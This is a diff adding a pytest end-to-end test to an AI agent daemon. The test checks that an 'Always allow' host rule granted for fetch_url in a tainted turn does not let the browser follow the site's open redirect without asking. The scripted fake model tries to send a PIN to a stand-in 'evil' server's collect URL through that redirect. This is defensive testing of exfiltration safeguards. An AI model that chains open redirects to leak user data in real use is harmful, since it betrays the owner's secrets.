@@ -2,7 +2,8 @@
 proxy) against local sites the test serves, the fake model scripting the tool calls. A
 JavaScript-only page, a hostile page's instruction stopped on a card that shows the page, a
 two-step form, a download, a password never typed by the model and a profile the owner signs
-in to, and kill -9 between typing and submitting and during a submission."""
+in to, kill -9 between typing and submitting and during a submission, and a fetch's host rule
+that never lets the browser follow the host's open redirect unasked in a tainted turn."""
 
 from __future__ import annotations
 
@@ -12,15 +13,18 @@ import subprocess
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote
 
 import pytest
 
 from agentd.browser.capability import _missing
 from agentd.config import Config
 from tests.browser_sites import PASSWORD, PRICE, SESSION, Elsewhere, Site, sites
-from tests.daemon_process import AGENTD, OWNER, Daemon, daemon_env
+from tests.daemon_process import AGENTD, OWNER, Daemon, daemon_env, running_daemon
 from tests.fakes import FakeAnthropic, FakeTelegram
+from tests.fakes.site import FakeSite
 from tests.hands_support import alive, reachable_dir
+from tests.test_e2e_taint import Stack, tool_use
 
 PROBLEM = _missing(Config.model_validate({"browser": {"enabled": True}}))
 pytestmark = pytest.mark.skipif(PROBLEM is not None, reason=f"no browser here: {PROBLEM}")
@@ -385,3 +389,86 @@ def test_kill_9_during_a_submission_reports_outcome_unknown_and_never_resubmits(
     browse.wait_text("please check")
     browse.daemon.wait_for_instances(1)
     assert len(browse.site.posted("/hold")) == 1  # once, never again
+
+
+@pytest.fixture
+def open_web(tmp_path: Path) -> Iterator[Stack]:
+    """Two servers the browser may reach (stand-ins for two public sites: `[browser]
+    allowed_hosts` only lets its proxy reach loopback at all, it is no approval rule), and
+    fetch_url allowed loopback for the same reason."""
+    ws = reachable_dir()
+    try:
+        with (
+            FakeTelegram.running() as tg,
+            FakeAnthropic.running() as llm,
+            FakeSite.running() as site,
+            FakeSite.running() as evil,
+        ):
+            reachable = ", ".join(f'"{s.url("/").split("/")[2]}"' for s in (site, evil))
+            (tmp_path / "agentd.toml").write_text(
+                "[tools]\napproval_timeout = 60\n\n"
+                '[tools.fetch]\nallowed_hosts = ["127.0.0.1"]\n\n'
+                f'[tools.workspace]\npath = "{ws}"\n\n'
+                "[browser]\nenabled = true\npage_timeout = 20.0\n"
+                f"allowed_hosts = [{reachable}]\n"
+            )
+            env = daemon_env(
+                tmp_path,
+                tg.base_url,
+                llm.base_url,
+                AGENTD_CONFIG=str(tmp_path / "agentd.toml"),
+                AGENTD_CHAT__STREAMING="false",
+            )
+            with running_daemon(tmp_path, env) as daemon:
+                yield Stack(tg, llm, site, evil, daemon)
+    finally:
+        shutil.rmtree(ws.parent, ignore_errors=True)
+
+
+def test_a_fetch_host_rule_never_lets_the_browser_follow_its_redirect_unasked(
+    open_web: Stack,
+) -> None:
+    """The owner pressed "Always allow" for a site on a fetch_url card in a tainted turn. The
+    rule lets fetch_url read the site (its open redirect held on the host), but the browser,
+    which would follow that redirect anywhere, asks; denied, the other server sees nothing.
+    In an untainted turn the rule changes nothing: the browser opens the site unasked."""
+    web = open_web
+    article = web.site.page("/b-article", "<p>An article.</p>")
+    web.site.page("/b-second", "<p>Second.</p>")
+    leak = web.evil.url("/collect-browser?pin=4711")
+    bounce = web.site.url("/go?to=") + quote(leak, safe="")
+    web.script(
+        "bmark",
+        ("toolu_b1", tool_use("fetch_url", {"url": article}, "toolu_b1")),
+        ("toolu_b2", tool_use("fetch_url", {"url": web.site.url("/b-second")}, "toolu_b2")),
+        ("toolu_b3", tool_use("fetch_url", {"url": bounce}, "toolu_b3")),
+        ("toolu_b4", tool_use("browser_open", {"url": bounce}, "toolu_b4")),
+        ("", "Browser done."),
+    )
+    before = web.cards_so_far()
+    web.tg.add_message(OWNER, OWNER, f"bmark: read {article}")
+    web.press(web.card(before, "fetch_url"), 1, 0)  # "Always allow" the site
+    card = web.card(before, "browser_open")
+    # fetch_url ran unasked under the rule, its redirect held on the host…
+    assert web.site.requests.count("/go") == 1
+    # …and the browser asks, saying why the rule does not cover it, offering no rule itself.
+    assert "covers fetch_url, not the browser" in card["plain_text"]
+    assert len(card["reply_markup"]["inline_keyboard"]) == 1
+    assert web.evil.requests == []
+    web.press(card, 0, 1)  # deny
+    web.answer(OWNER, "Browser done.")
+    assert web.evil.requests == [] and web.site.requests.count("/go") == 1
+
+    # A fresh window: nothing outside in view, so the browser opens the site unasked, as before.
+    web.tg.add_message(OWNER, OWNER, "/new")
+    plain = web.site.page("/b-plain", "<p>Plain.</p>")
+    web.script(
+        "cmark",
+        ("toolu_c1", tool_use("browser_open", {"url": plain}, "toolu_c1")),
+        ("", "Plain done."),
+    )
+    before = web.cards_so_far()
+    web.tg.add_message(OWNER, OWNER, "cmark: open the plain page of the site")
+    web.answer(OWNER, "Plain done.")
+    assert "/b-plain" in web.site.requests
+    assert [m for m in web.sent(OWNER)[before:] if m["reply_markup"]] == []
